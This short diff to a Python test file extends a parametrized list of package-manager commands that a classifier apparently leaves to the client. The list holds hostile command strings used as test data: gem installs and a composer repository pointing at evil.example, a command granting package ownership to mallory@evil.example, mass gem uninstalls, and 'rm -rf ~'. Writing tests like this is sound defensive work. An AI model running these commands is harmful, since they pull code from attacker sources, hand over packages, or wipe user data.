@@ -64,6 +64,8 @@ def test_other_package_lines_that_install_or_run_are_left_to_the_client(line: st
         "gem install x -s http://evil.example",
         "gem install x --source=https://evil.example",
         "gem push shop-1.gem",
+        "gem uninstall -aIx",
+        "composer global config repositories.evil vcs https://evil.example",
         "gem yank shop -v 1",
         "gem owner shop -a mallory@evil.example",
         "bundle exec rm -rf ~",
